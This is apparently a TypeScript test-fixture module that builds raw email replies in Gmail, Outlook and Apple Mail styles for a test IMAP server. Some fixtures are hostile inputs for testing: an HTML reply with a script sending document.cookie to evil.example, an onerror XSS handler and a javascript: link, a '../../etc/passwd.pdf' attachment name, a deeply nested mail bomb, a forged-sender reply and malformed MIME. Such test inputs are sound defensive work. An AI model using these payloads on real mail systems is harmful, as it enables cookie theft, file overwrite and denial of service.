/**
 * Raw RFC 5322 messages (CRLF line endings) shaped the way real clients and servers send replies, to deliver into the
 * test IMAP server (test/imap-server.ts). Display names and subjects with non-ASCII text are RFC 2047 encoded words,
 * attachment names RFC 2231 parameters, as the clients write them.
 */
import { randomBytes } from "node:crypto";
import { makePdf } from "./pdf";

export type ReplyShape = {
  /** "Name <address>" or a bare address; a non-ASCII name is encoded (RFC 2047). */
  from: string;
  to: string;
  subject: string;
  inReplyTo?: string;
  /** The References header, as written (space-separated message ids). */
  references?: string;
  /** Defaults to a new id in the sending client's style. */
  messageId?: string;
  date?: Date;
  /** The reply's own text (before the quoted history). */
  body?: string;
};

const CRLF = "\r\n";
const DEFAULT_BODY = "Bonjour,\n\nMerci pour votre réponse rapide. Pouvez-vous nous envoyer le devis pour 200 kg ?\n\nCordialement";
/** The quoted message: what the correspondent received from us. */
const QUOTED = "Bonjour,\n\nVoici notre proposition pour les algues séchées (Ulva lactuca).\n\nL'équipe Marine Algae";

const crlf = (text: string) => text.replace(/\r?\n/g, CRLF);
const hex = (bytes: number) => randomBytes(bytes).toString("hex");
const boundary = (prefix: string) => `${prefix}${hex(12)}`;
const escapeHtml = (text: string) => text.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;");
const htmlLines = (text: string) => escapeHtml(text).split("\n").join("<br>\n");
// biome-ignore lint/suspicious/noControlCharactersInRegex: ASCII is U+0000 to U+007F
const isAscii = (text: string) => /^[\x00-\x7f]*$/.test(text);

/** RFC 2047 "B" encoded words of at most 75 characters, split on character boundaries, folded onto new lines. */
function encodeWords(text: string): string {
  if (isAscii(text)) return text;
  const words: string[] = [];
  let chunk = "";
  for (const char of text) {
    if (Buffer.byteLength(chunk + char) > 45) {
      words.push(chunk);
      chunk = "";
    }
    chunk += char;
  }
  words.push(chunk);
  return words.map((word) => `=?UTF-8?B?${Buffer.from(word).toString("base64")}?=`).join(`${CRLF} `);
}

/** "Zoé Müller <zoe@example.fr>" → "=?UTF-8?B?Wm/DqSBNw7xsbGVy?= <zoe@example.fr>"; ASCII names are quoted when needed. */
function mailbox(value: string): string {
  const match = /^\s*(.*?)\s*<([^>]+)>\s*$/.exec(value);
  if (!match?.[1]) return match?.[2] ? `<${match[2]}>` : value;
  const name = match[1].replace(/^"(.*)"$/, "$1");
  if (!isAscii(name)) return `${encodeWords(name)} <${match[2]}>`;
  // Atoms and spaces go as they are; anything else (a dot, a comma) needs a quoted string.
  const atoms = /^[\w !#$%&'*+/=?^`{|}~-]+$/.test(name);
  return `${atoms ? name : `"${name.replace(/["\\]/g, "\\$&")}"`} <${match[2]}>`;
}

const displayName = (value: string) => /^\s*"?(.*?)"?\s*<[^>]+>\s*$/.exec(value)?.[1] || value;

/** RFC 5322 date-time: "Tue, 03 Nov 2026 10:02:00 +0000". */
function rfc5322Date(date: Date): string {
  const [day, dd, mon, year, time] = date.toUTCString().split(" ");
  return `${day} ${dd} ${mon} ${year} ${time} +0000`;
}

/** The shared header block: origin, addressing, threading; `messageIdDomain` gives the client's Message-ID style. */
function headers(shape: ReplyShape, messageIdDomain: string | null, extra: [string, string][]): string {
  const list: [string, string | undefined][] = [
    ["Date", rfc5322Date(shape.date ?? new Date())],
    ["From", mailbox(shape.from)],
    ["To", mailbox(shape.to)],
    ["Subject", encodeWords(shape.subject)],
    ["Message-ID", messageIdDomain === null ? undefined : (shape.messageId ?? `<${hex(16)}@${messageIdDomain}>`)],
    ["In-Reply-To", shape.inReplyTo],
    ["References", shape.references],
    ["MIME-Version", "1.0"],
    ...extra,
  ];
  return list
    .filter((entry): entry is [string, string] => entry[1] !== undefined)
    .map(([name, value]) => `${name}: ${value}${CRLF}`)
    .join("");
}

/** Quoted-printable (RFC 2045) of UTF-8 text: CRLF lines, soft breaks before 76 characters, trailing spaces encoded. */
function quotedPrintable(text: string): string {
  const hexEscape = (byte: number) => `=${byte.toString(16).toUpperCase().padStart(2, "0")}`;
  return crlf(text)
    .split(CRLF)
    .map((line) => {
      let encoded = "";
      for (const byte of Buffer.from(line))
        encoded += byte === 0x3d || byte > 0x7e || (byte < 0x20 && byte !== 0x09) ? hexEscape(byte) : String.fromCharCode(byte);
      encoded = encoded.replace(/[ \t]$/, (space) => hexEscape(space.charCodeAt(0)));
      const soft: string[] = [];
      while (encoded.length > 75) {
        // Never split an "=XX" escape.
        let cut = 75;
        const lastEscape = encoded.lastIndexOf("=", cut);
        if (lastEscape > cut - 3) cut = lastEscape;
        soft.push(`${encoded.slice(0, cut)}=`);
        encoded = encoded.slice(cut);
      }
      return [...soft, encoded].join(CRLF);
    })
    .join(CRLF);
}

/** Base64 in 76-character lines; one pass over the whole content, then one slice per line. */
function base64Lines(data: Buffer): string {
  const encoded = data.toString("base64");
  const lines: string[] = [];
  for (let i = 0; i < encoded.length; i += 76) lines.push(encoded.slice(i, i + 76));
  return lines.join(CRLF);
}

type Part = { headers: string; body: string };
const textPart = (subtype: "plain" | "html", text: string, params = ""): Part => ({
  headers: `Content-Type: text/${subtype}; charset="UTF-8"${params}${CRLF}Content-Transfer-Encoding: quoted-printable${CRLF}`,
  body: quotedPrintable(text),
});
/** A multipart body (its Content-Type header and content) from parts. */
function multipart(subtype: string, parts: Part[], extraParams = "", prefix = "000000000000"): Part {
  const b = boundary(prefix);
  const body = parts.map((part) => `--${b}${CRLF}${part.headers}${CRLF}${part.body}${CRLF}`).join("");
  return { headers: `Content-Type: multipart/${subtype}; boundary="${b}"${extraParams}${CRLF}`, body: `${body}--${b}--${CRLF}` };
}
const message = (head: string, root: Part) => `${head}${root.headers}${CRLF}${root.body}`;

/** A filename parameter as clients write it: plain when ASCII, else RFC 2231 (filename*=UTF-8''…; `name` keeps the
 * encoded-word form older readers look at). */
function filenameParams(name: string): string {
  if (isAscii(name)) return `; filename="${name}"`;
  return `; filename*=UTF-8''${encodeURIComponent(name).replace(/['()*]/g, (c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`)}`;
}
const attachment = (name: string, type: string, data: Buffer): Part => ({
  headers:
    `Content-Type: ${type}; name="${isAscii(name) ? name : encodeWords(name)}"${CRLF}` +
    `Content-Disposition: attachment${filenameParams(name)}${CRLF}Content-Transfer-Encoding: base64${CRLF}`,
  body: base64Lines(data),
});

/** When the quoted message was sent: an hour before the reply. */
const at = (shape: ReplyShape) => new Date((shape.date ?? new Date()).getTime() - 3_600_000);
const quote = (text: string, mark = "> ") =>
  text
    .split("\n")
    .map((line) => (line ? `${mark}${line}` : mark.trimEnd()))
    .join("\n");
const DAYS = ["Sunday", "Monday", "Tuesday", "Wednesday", "Thursday", "Friday", "Saturday"];
const MONTHS = ["January", "February", "March", "April", "May", "June", "July", "August", "September", "October", "November", "December"];
/** The pieces clients put in their "On … wrote:" lines, in UTC (fixed names: no locale data involved). */
function when(date: Date) {
  const hours = date.getUTCHours();
  return {
    weekday: DAYS[date.getUTCDay()] ?? "",
    day: date.getUTCDate(),
    month: MONTHS[date.getUTCMonth()] ?? "",
    year: date.getUTCFullYear(),
    time: date.toISOString().slice(11, 16),
    time12: `${hours % 12 || 12}:${date.toISOString().slice(14, 16)} ${hours < 12 ? "AM" : "PM"}`,
  };
}

/** Gmail: multipart/alternative, "On Tue, 3 Nov 2026 at 10:02, X <x@y> wrote:" then "> " lines; gmail_quote HTML. */
export function gmailReply(shape: ReplyShape): string {
  const body = shape.body ?? DEFAULT_BODY;
  const d = when(at(shape));
  const attribution = `On ${d.weekday.slice(0, 3)}, ${d.day} ${d.month.slice(0, 3)} ${d.year} at ${d.time}, ${shape.to} wrote:`;
  const text = `${body}\n\n${attribution}\n\n${quote(QUOTED)}\n`;
  const html =
    `<div dir="ltr">${htmlLines(body)}</div><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">` +
    `${escapeHtml(attribution)}<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;` +
    `border-left:1px solid rgb(204,204,204);padding-left:1ex">${htmlLines(QUOTED)}</blockquote></div>\n`;
  return message(headers(shape, "mail.gmail.com", []), multipart("alternative", [textPart("plain", text), textPart("html", html)]));
}

/** A reply built like Gmail's but sent from an address that is not the correspondent's: pass that `from`. */
export const forgedReply = (shape: ReplyShape): string => gmailReply(shape);

/** Outlook: Thread-Index/Thread-Topic headers, "From: … Sent: … To: … Subject:" block, divRplyFwdMsg in HTML. */
export function outlookReply(shape: ReplyShape): string {
  const body = shape.body ?? DEFAULT_BODY;
  const d = when(at(shape));
  const sent = `${d.weekday}, ${d.month} ${d.day}, ${d.year} ${d.time12}`;
  const block = `From: ${shape.to}\nSent: ${sent}\nTo: ${shape.from}\nSubject: ${shape.subject.replace(/^(RE|Re): /, "")}`;
  const text = `${body}\n\n-----Original Message-----\n${block}\n\n${QUOTED}\n`;
  const html =
    `<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>` +
    `<div class="elementToProof">${htmlLines(body)}</div><hr style="display:inline-block;width:98%" tabindex="-1">` +
    `<div id="divRplyFwdMsg" dir="ltr"><font face="Calibri, sans-serif" style="font-size:11pt">${htmlLines(block).replace(
      /^(From|Sent|To|Subject):/gm,
      "<b>$1:</b>",
    )}</font><div>&nbsp;</div></div><div>${htmlLines(QUOTED)}</div></body></html>\n`;
  const thread = Buffer.concat([Buffer.from([1, 0xdc]), randomBytes(20)]).toString("base64");
  const extra: [string, string][] = [
    ["Thread-Topic", encodeWords(shape.subject.replace(/^(RE|Re): /, ""))],
    ["Thread-Index", thread],
    ["Accept-Language", "fr-FR, en-US"],
    ["Content-Language", "fr-FR"],
    ["X-MS-Has-Attach", ""],
  ];
  return message(
    headers(shape, `PR3P195MB0701.EURP195.PROD.OUTLOOK.COM`, extra),
    multipart("alternative", [textPart("plain", text), textPart("html", html)]),
  );
}

/** format=flowed (RFC 3676): long lines go out cut at spaces, each cut line ending in a space the reader joins on. */
function flowed(text: string, width = 66): string {
  const wrap = (line: string) => {
    const lines: string[] = [];
    let current = "";
    for (const word of line.split(" ")) {
      if (current && current.length + word.length + 1 > width) {
        lines.push(`${current} `);
        current = word;
      } else current = current ? `${current} ${word}` : word;
    }
    return [...lines, current].join("\n");
  };
  return text.split("\n").map(wrap).join("\n");
}

/** Apple Mail: text/plain format=flowed (soft-wrapped lines end with a space) + HTML with <blockquote type="cite">. */
export function appleMailReply(shape: ReplyShape): string {
  const body = shape.body ?? DEFAULT_BODY;
  const d = when(at(shape));
  const attribution = `On ${d.day} ${d.month.slice(0, 3)} ${d.year}, at ${d.time}, ${displayName(shape.to)} wrote:`;
  const text = `${flowed(body)}\n\n${attribution}\n\n${quote(QUOTED)}\n`;
  const html =
    `<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head><body dir="auto">` +
    `<div dir="ltr">${htmlLines(body)}</div><div dir="ltr"><br><blockquote type="cite">${escapeHtml(attribution)}<br><br></blockquote></div>` +
    `<blockquote type="cite"><div dir="ltr">${htmlLines(QUOTED)}</div></blockquote></body></html>\n`;
  return message(
    headers(shape, "example.icloud.com", [["X-Mailer", "iPhone Mail (22B91)"]]),
    multipart("alternative", [textPart("plain", text, "; format=flowed; delsp=no"), textPart("html", html)], "", "Apple-Mail=_"),
  );
}

/** Only text/html, with what a sanitiser must remove: a script, an onerror handler, a tracking pixel, a javascript: link. */
export function htmlOnlyReply(shape: ReplyShape): string {
  const html =
    `<html><body><p>${htmlLines(shape.body ?? DEFAULT_BODY)}</p>` +
    `<script>fetch("https://evil.example/steal?c="+document.cookie)</script>` +
    `<img src="x" onerror="alert(document.domain)">` +
    `<img src="https://tracker.example/p.gif" width="1" height="1" alt="">` +
    `<p><a href="javascript:alert(1)">Voir la commande</a></p></body></html>\n`;
  return message(headers(shape, "mailer.example", []), textPart("html", html));
}

/** multipart/mixed: the reply text, a small valid PDF (RFC 2231 UTF-8 name) and an attachment named like a path. */
export async function replyWithPdf(shape: ReplyShape): Promise<string> {
  const pdf = await makePdf("Bon de commande");
  const root = multipart("mixed", [
    textPart("plain", shape.body ?? DEFAULT_BODY),
    attachment("Bon de commande signé.pdf", "application/pdf", pdf),
    attachment("../../etc/passwd.pdf", "application/pdf", pdf),
  ]);
  return message(headers(shape, "mail.gmail.com", []), root);
}

/** An automatic "out of office" answer (RFC 3834 Auto-Submitted, and the de facto X-Autoreply/Precedence); the
 * subject becomes "Out of office: <subject>". */
export function outOfOffice(shape: ReplyShape): string {
  const extra: [string, string][] = [
    ["Auto-Submitted", "auto-replied"],
    ["X-Autoreply", "yes"],
    ["Precedence", "auto_reply"],
  ];
  const text = shape.body ?? "Je suis absente du bureau jusqu'au 12 novembre, avec un accès limité à mes e-mails.";
  return message(headers({ ...shape, subject: `Out of office: ${shape.subject}` }, "mx.example", extra), textPart("plain", text));
}

/** A delivery failure report (RFC 3464) for `originalMessageId`: human text, message/delivery-status, the headers. */
export function dsnBounce(shape: ReplyShape & { originalMessageId: string; failedRecipient?: string }): string {
  const recipient = shape.failedRecipient ?? "nobody@unknown.example";
  const human = textPart(
    "plain",
    shape.body ??
      `This is the mail system at host mx.example.\n\nI'm sorry to have to inform you that your message could not\n` +
        `be delivered to one or more recipients.\n\n<${recipient}>: host mx.unknown.example said: 550 5.1.1 User unknown\n`,
  );
  const status: Part = {
    headers: `Content-Type: message/delivery-status${CRLF}`,
    body: crlf(
      `Reporting-MTA: dns; mx.example\nArrival-Date: ${rfc5322Date(at(shape))}\n\nFinal-Recipient: rfc822; ${recipient}\n` +
        `Original-Recipient: rfc822; ${recipient}\nAction: failed\nStatus: 5.1.1\nRemote-MTA: dns; mx.unknown.example\n` +
        `Diagnostic-Code: smtp; 550 5.1.1 <${recipient}>: Recipient address rejected: User unknown\n`,
    ),
  };
  const original: Part = {
    headers: `Content-Type: text/rfc822-headers${CRLF}`,
    body: crlf(
      `Return-Path: <${/<([^>]+)>/.exec(shape.to)?.[1] ?? shape.to}>\nFrom: ${mailbox(shape.to)}\nTo: <${recipient}>\n` +
        `Subject: Votre demande de devis\nMessage-ID: ${shape.originalMessageId}\nDate: ${rfc5322Date(at(shape))}\n`,
    ),
  };
  const root = multipart("report", [human, status, original], "; report-type=delivery-status");
  return message(headers(shape, "mx.example", [["Auto-Submitted", "auto-replied"]]), root);
}

/** A reply whose sender's client wrote no Message-ID header (some scripts and old MTAs). */
export function noMessageId(shape: ReplyShape): string {
  return message(headers(shape, null, []), textPart("plain", shape.body ?? DEFAULT_BODY));
}

/** A reply with one base64 attachment of exactly `sizeBytes` bytes (a repeating pattern, cheap to build). */
export function hugeAttachment(shape: ReplyShape, sizeBytes: number): string {
  const data = Buffer.alloc(sizeBytes, "Marine algae 0123456789 ");
  const root = multipart("mixed", [
    textPart("plain", shape.body ?? DEFAULT_BODY),
    attachment("scan.bin", "application/octet-stream", data),
  ]);
  return message(headers(shape, "mail.gmail.com", []), root);
}

/** Multiparts nested `depth` deep (each level's boundary its own), the innermost holding `parts` tiny text parts. */
export function mailBomb(shape: ReplyShape, depth = 200, parts = 1000): string {
  let root: Part = multipart(
    "mixed",
    Array.from({ length: parts }, (_, i) => ({ headers: `Content-Type: text/plain${CRLF}`, body: `${i}` })),
  );
  for (let level = 1; level < depth; level++) root = multipart("mixed", [root]);
  return message(headers(shape, "bomb.example", []), root);
}

/** What broken senders produce: a header line without a colon, an unclosed and a wrong boundary, invalid base64 and
 * quoted-printable, an unknown charset and a broken encoded word. */
export function malformedMime(shape: ReplyShape): string {
  const head = headers({ ...shape, subject: `${shape.subject} =?UTF-8?B?###invalid?=` }, "broken.example", [
    ["X-Broken-Header-Follows", "yes"],
  ]);
  return (
    `${head}This line is a header without a colon${CRLF}` +
    `Content-Type: multipart/mixed; boundary="declared-boundary"${CRLF}${CRLF}` +
    `Preamble text.${CRLF}--declared-boundary${CRLF}Content-Type: text/plain; charset=x-unknown-charset${CRLF}` +
    `Content-Transfer-Encoding: quoted-printable${CRLF}${CRLF}Bad escapes =ZZ =4 and a lone =${CRLF}` +
    `--declared-boundary${CRLF}Content-Type: application/pdf; name="broken.pdf"${CRLF}` +
    `Content-Transfer-Encoding: base64${CRLF}${CRLF}JVBERi0x!!!not*base64@@@==?==${CRLF}` +
    `--another-boundary${CRLF}Content-Type: text/html${CRLF}${CRLF}<p>Part under a boundary never declared</p>${CRLF}` +
    `--declared-boundary${CRLF}Content-Type: multipart/alternative; boundary="inner"${CRLF}${CRLF}` +
    `--inner${CRLF}Content-Type: text/plain${CRLF}${CRLF}The inner multipart never closes and neither does the outer.${CRLF}`
  );
}
